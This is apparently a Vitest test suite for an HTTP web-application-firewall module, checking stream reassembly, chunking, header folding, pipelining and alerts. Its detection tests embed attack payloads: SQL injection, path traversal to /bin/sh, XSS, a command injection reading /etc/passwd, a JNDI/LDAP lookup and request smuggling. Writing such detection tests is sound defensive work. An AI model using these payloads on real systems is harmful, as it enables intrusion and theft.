// http_waf over streams: requests split across segments and reordered (through
// the real Engine), chunked bodies, folded headers, responses and their http
// events, pipelining, and when the module lets the flow go.
import { beforeAll, describe, expect, it } from 'vitest';
import { Engine } from '../../../host/engine/engine.js';
import type { PacketDecision } from '../../../host/engine/types.js';
import { buildPacket } from '../../../host/packet/build.js';
import { decodePacket } from '../../../host/packet/decode.js';
import { LinkType, TcpFlag } from '../../../host/packet/types.js';
import { Verdict } from '../../../host/verdict.js';
import type { BatchOutput } from '../../../host/wasm/types.js';
import { SID, bytesOf, request, run, segmented, streamItem, waf } from './waf.js';

beforeAll(async () => { await waf(); }, 180_000);

const T0 = 1_700_000_000;
const client = { src: '198.18.0.1', dst: '198.18.1.1', srcPort: 41000, dstPort: 80, proto: 'tcp' as const };
const server = { src: '198.18.1.1', dst: '198.18.0.1', srcPort: 80, dstPort: 41000, proto: 'tcp' as const };

async function engineRun(frames: Uint8Array[], config?: unknown) {
  const decisions: PacketDecision[] = [];
  const engine = new Engine({
    rules: { defaultPolicy: 'inspect', rules: [] },
    modules: [{ name: 'http_waf', instance: await waf(config), policy: 'fail-closed' }],
    batchSize: 8,
    onDecision: (d) => decisions.push(d),
  });
  frames.forEach((f, i) => engine.pushDecoded(decodePacket(f, LinkType.ETHERNET, T0, i * 1000)));
  engine.finish();
  decisions.sort((a, b) => a.index - b.index);
  return decisions;
}

function handshake(): Uint8Array[] {
  return [
    buildPacket({ ...client, tcpFlags: TcpFlag.SYN, seq: 999 }),
    buildPacket({ ...server, tcpFlags: TcpFlag.SYN | TcpFlag.ACK, seq: 4999, ack: 1000 }),
    buildPacket({ ...client, tcpFlags: TcpFlag.ACK, seq: 1000, ack: 5000 }),
  ];
}

const alertsOf = (d: PacketDecision[]) => d.flatMap((x) => x.modules.flatMap((m) => m.alerts.map((a) => ({ index: x.index, sid: a.sigId }))));
const eventsOf = (d: PacketDecision[]) => d.flatMap((x) => x.modules.flatMap((m) => m.events.map((e) => ({ index: x.index, ...e.data }))));

describe('http_waf through the engine', () => {
  it('sees an attack split over three segments that arrive out of order, once, on the packet that completes it', async () => {
    const req = request('GET', "/search?q=1%27%20UNION%20SELECT%20card%20FROM%20payments--");
    const cuts = [20, 45];
    const parts = [req.slice(0, cuts[0]), req.slice(cuts[0], cuts[1]), req.slice(cuts[1])];
    const seqs = [1000, 1000 + cuts[0]!, 1000 + cuts[1]!];
    const seg = (k: number) => buildPacket({ ...client, seq: seqs[k]!, ack: 5000, payload: parts[k]! });
    const frames = [...handshake(), seg(2), seg(0), seg(0) /* retransmit */, seg(1)];
    const d = await engineRun(frames);
    expect(alertsOf(d)).toEqual([{ index: 6, sid: SID.SQLI }]);
    for (const i of [3, 4, 5]) expect(d[i]!.verdict).toBe(Verdict.CONTINUE);
  });

  it('blocks in block mode: the completing packet and the rest of the flow are dropped', async () => {
    const req = request('GET', '/cgi-bin/%2e%2e/%2e%2e/%2e%2e/bin/sh');
    const frames = [...handshake(),
      buildPacket({ ...client, seq: 1000, ack: 5000, payload: req.slice(0, 10) }),
      buildPacket({ ...client, seq: 1010, ack: 5000, payload: req.slice(10) }),
      buildPacket({ ...client, seq: 1000 + req.length, ack: 5000, payload: 'more' }),
    ];
    const d = await engineRun(frames, { mode: 'block' });
    expect(d[3]!.dropped).toBe(false);
    expect(d[4]!.verdict).toBe(Verdict.BLOCK_FLOW);
    expect(d[4]!.dropped).toBe(true);
    expect(d[5]!.dropped).toBe(true);
    expect(alertsOf(d)).toEqual([{ index: 4, sid: SID.TRAVERSAL }]);
  });

  it('reports a request/response pair as one http event with Suricata field names', async () => {
    const req = request('GET', '/index.html?lang=en', { 'User-Agent': 'curl/8.5.0', Host: 'www.example.org:8080' });
    const resp = 'HTTP/1.1 404 Not Found\r\nContent-Type: text/html\r\nContent-Length: 9\r\n\r\nnot found';
    const frames = [...handshake(),
      buildPacket({ ...client, seq: 1000, ack: 5000, payload: req }),
      buildPacket({ ...server, seq: 5000, ack: 1000 + req.length, payload: resp }),
    ];
    const d = await engineRun(frames);
    expect(eventsOf(d)).toEqual([{
      index: 4, hostname: 'www.example.org', url: '/index.html?lang=en', http_method: 'GET', http_user_agent: 'curl/8.5.0', protocol: 'HTTP/1.1', status: 404, length: 9,
    }]);
    expect(alertsOf(d)).toEqual([]);
  });
});

describe('http_waf stream handling', () => {
  it('waits (CONTINUE, no alert) until the head and the Content-Length body are complete', async () => {
    const inst = await waf();
    const body = 'comment=' + encodeURIComponent('<svg onload=alert(1)>');
    const msg = bytesOf(request('POST', '/c', { 'Content-Type': 'application/x-www-form-urlencoded' }, body));
    const items = segmented(11, 0, msg, [30, 60, msg.length - 100, 5]);
    const r = run(inst, items);
    expect(r.alerts.map((a) => [a.index, a.sigId])).toEqual([[items.length - 1, SID.XSS]]);
    expect(r.verdicts.every((v) => v === Verdict.CONTINUE)).toBe(true);
  });

  it('inspects a large body once its first body_depth bytes are in, then waits for the rest before the next request', async () => {
    const inst = await waf({ body_depth: 1024 });
    const body = 'q=' + encodeURIComponent("x' or 1=1--") + '&pad=' + 'p'.repeat(6000);
    const first = bytesOf(request('POST', '/f', { 'Content-Type': 'application/x-www-form-urlencoded' }, body));
    const second = bytesOf(request('GET', '/after?c=%3Cscript%3E'));
    const all = new Uint8Array(first.length + second.length);
    all.set(first);
    all.set(second, first.length);
    const items = segmented(21, 0, all, [1400, 1400, 1400, 1400, 1400]);
    const r = run(inst, items);
    // the first segment already holds the head and more than body_depth bytes of the body, which is reported (1001014)
    expect(r.alerts.map((a) => [a.index, a.sigId])).toEqual([[0, SID.SQLI], [0, SID.BODY_PAST_DEPTH], [items.length - 1, SID.XSS]]);
  });

  it('de-chunks a chunked body split mid-chunk and finds an attack spanning two chunks', async () => {
    const inst = await waf();
    const payload = 'cmd=' + encodeURIComponent('8.8.8.8; cat /etc/passwd');
    const a = payload.slice(0, 12);
    const b = payload.slice(12);
    const chunked = `${a.length.toString(16)};ext=1\r\n${a}\r\n${b.length.toString(16).toUpperCase()}\r\n${b}\r\n0\r\nX-Trailer: 1\r\n\r\n`;
    const msg = bytesOf(request('POST', '/net', { 'Content-Type': 'application/x-www-form-urlencoded', 'Transfer-Encoding': 'chunked' }, chunked));
    const items = segmented(12, 0, msg, [msg.length - chunked.length + 10, 15]);
    const r = run(inst, items);
    expect(r.alerts.map((x) => [x.index, x.sigId])).toEqual([[items.length - 1, SID.CMDI]]);
    expect((r.alerts[0]!.metadata as { value: string }).value).toBe('8.8.8.8; cat /etc/passwd');
  });

  it('flags Content-Length together with Transfer-Encoding as request smuggling', async () => {
    const inst = await waf();
    const msg = 'POST /x HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n';
    const r = run(inst, [streamItem(13, 0, bytesOf(msg))]);
    expect(r.alerts.map((a) => a.sigId)).toEqual([SID.SMUGGLING]);
  });

  it('unfolds obs-fold continuation lines, so a payload split over folded lines is seen whole', async () => {
    const inst = await waf();
    const msg = 'GET / HTTP/1.1\r\nHost: shop.example\r\nX-Api-Version: ${jndi:\r\n ldap://198.18.0.66/a}\r\n\r\n';
    const r = run(inst, [streamItem(14, 0, bytesOf(msg))]);
    expect(r.alerts.map((a) => a.sigId)).toEqual([SID.JNDI]);
    expect((r.alerts[0]!.metadata as { value: string }).value).toBe('${jndi: ldap://198.18.0.66/a}');
  });

  it('matches header names case-insensitively and accepts bare LF line ends', async () => {
    const inst = await waf();
    const msg = 'GET / HTTP/1.1\nhOsT: shop.example\nuSeR-aGeNt: sqlmap/1.8\n\n';
    const r = run(inst, [streamItem(15, 0, bytesOf(msg))]);
    expect(r.alerts.map((a) => [a.sigId, (a.metadata as { hostname: string }).hostname])).toEqual([[SID.SCANNER, 'shop.example']]);
  });

  it('parses pipelined requests and their responses in order, then allows the flow after allow_after clean pairs', async () => {
    const inst = await waf({ allow_after: 2 });
    const reqs = request('GET', '/a') + request('GET', '/b') + request('GET', '/c');
    const r1 = run(inst, [streamItem(16, 0, bytesOf(reqs))]);
    expect(r1.verdicts).toEqual([Verdict.CONTINUE]);
    const resp1 = 'HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nhi';
    const resp2 = resp1 + 'HTTP/1.1 301 Moved\r\nLocation: /x\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n';
    const r2 = run(inst, [streamItem(16, 1, bytesOf(resp1))]);
    expect(r2.events.map((e) => [e.data.url, e.data.status, e.data.length])).toEqual([['/a', 200, 2]]);
    expect(r2.verdicts).toEqual([Verdict.CONTINUE]);
    // two pairs answered but /c still waits for its response: not done yet
    const r3 = run(inst, [streamItem(16, 1, bytesOf(resp2))]);
    expect(r3.events.map((e) => [e.data.url, e.data.status, e.data.length])).toEqual([['/b', 301, 3]]);
    expect(r3.verdicts).toEqual([Verdict.CONTINUE]);
    const resp3 = resp2 + 'HTTP/1.1 204 No Content\r\n\r\n';
    const r4 = run(inst, [streamItem(16, 1, bytesOf(resp3))]);
    expect(r4.events.map((e) => [e.data.url, e.data.status])).toEqual([['/c', 204]]);
    expect(r4.verdicts).toEqual([Verdict.ALLOW_FLOW]);
  });

  it('knows that answers to HEAD, 204 and 304 carry no body even with a Content-Length', async () => {
    const inst = await waf({ allow_after: 0 });
    const reqs = request('HEAD', '/big.iso') + request('GET', '/cached') + request('GET', '/next');
    run(inst, [streamItem(20, 0, bytesOf(reqs))]);
    const resp = 'HTTP/1.1 200 OK\r\nContent-Length: 734003200\r\n\r\n'
      + 'HTTP/1.1 304 Not Modified\r\nContent-Length: 512\r\n\r\n'
      + 'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok';
    const r = run(inst, [streamItem(20, 1, bytesOf(resp))]);
    expect(r.events.map((e) => [e.data.url, e.data.status, e.data.length])).toEqual([['/big.iso', 200, 734003200], ['/cached', 304, 512], ['/next', 200, 2]]);
  });

  it('reports requests that never got a response when the flow ends', async () => {
    const inst = await waf();
    run(inst, [streamItem(17, 0, bytesOf(request('GET', '/lonely')))]);
    const out: Pick<BatchOutput, 'alerts' | 'events'> = { alerts: [], events: [] };
    inst.flowEnded(17, (a, e) => { out.alerts.push(...a); out.events.push(...e); });
    expect(out.events).toEqual([{ index: -1, kind: 'http', data: expect.objectContaining({ url: '/lonely', http_method: 'GET' }) }]);
    expect(out.events[0]!.data.status).toBeUndefined();
  });

  it('where no packet to the client shows (host mode), the client\'s FIN reports its unanswered requests at once', async () => {
    const inst = await waf();
    const fin = (flowId: number) => {
      const frame = buildPacket({ src: '198.18.0.1', dst: '198.18.0.2', proto: 'tcp', srcPort: 40000, dstPort: 80, tcpFlags: TcpFlag.FIN | TcpFlag.ACK, seq: 100 });
      return { pkt: decodePacket(frame, LinkType.ETHERNET, 1_700_000_000, 0), flowId, direction: 0 as const, flags: 0, stream: null, streamNew: 0 };
    };
    const ended: unknown[] = [];
    // Host mode: requests only, then the client closes.
    expect(run(inst, [streamItem(31, 0, bytesOf(request('GET', '/a'))), streamItem(31, 0, bytesOf(request('GET', '/a') + request('GET', '/b')))]).events).toEqual([]);
    const closed = run(inst, [fin(31)]);
    expect(closed.verdicts).toEqual([Verdict.CONTINUE]);
    expect(closed.events.map((e) => [e.index, e.data.url, e.data.status])).toEqual([[0, '/a', undefined], [0, '/b', undefined]]);
    inst.flowEnded(31, (_a, e) => ended.push(...e));
    expect(ended).toEqual([]);
    // Both directions seen (inline, or a capture): the response may still come after the client's FIN.
    run(inst, [streamItem(32, 1, bytesOf('')), streamItem(32, 0, bytesOf(request('GET', '/c')))]);
    expect(run(inst, [fin(32)]).events).toEqual([]);
    expect(run(inst, [streamItem(32, 1, bytesOf('HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n'))]).events.map((e) => [e.data.url, e.data.status])).toEqual([['/c', 200]]);
  });

  it('reads a line without a protocol as HTTP/0.9 only with GET: an SSH greeting is not a request', async () => {
    const inst = await waf();
    const ssh = run(inst, [streamItem(20, 0, bytesOf('SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13\r\n'))]);
    expect(ssh.verdicts).toEqual([Verdict.ALLOW_FLOW]);
    const events: unknown[] = [];
    inst.flowEnded(20, (_a, e) => events.push(...e));
    expect(events).toEqual([]);
    const v09 = run(inst, [streamItem(21, 0, bytesOf('GET /old\r\n'))]);
    expect(v09.verdicts).toEqual([Verdict.CONTINUE]);
    inst.flowEnded(21, (_a, e) => events.push(...e));
    expect(events).toEqual([expect.objectContaining({ kind: 'http', data: expect.objectContaining({ url: '/old', http_method: 'GET' }) })]);
  });

  it('lets go of a flow that is not HTTP, and of one whose stream depth is used up', async () => {
    const inst = await waf({ stream_depth: 4096 });
    expect(run(inst, [streamItem(18, 0, bytesOf('\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03'))]).verdicts).toEqual([Verdict.ALLOW_FLOW]);
    // a body longer than the depth: inspected up to the depth, then ALLOW_FLOW
    const big = request('POST', '/upload', { 'Content-Type': 'application/octet-stream', 'Content-Length': '100000' }) + 'A'.repeat(4096);
    const r = run(inst, [streamItem(19, 0, bytesOf(big).subarray(0, 4096))]);
    expect(r.verdicts).toEqual([Verdict.ALLOW_FLOW]);
  });
});
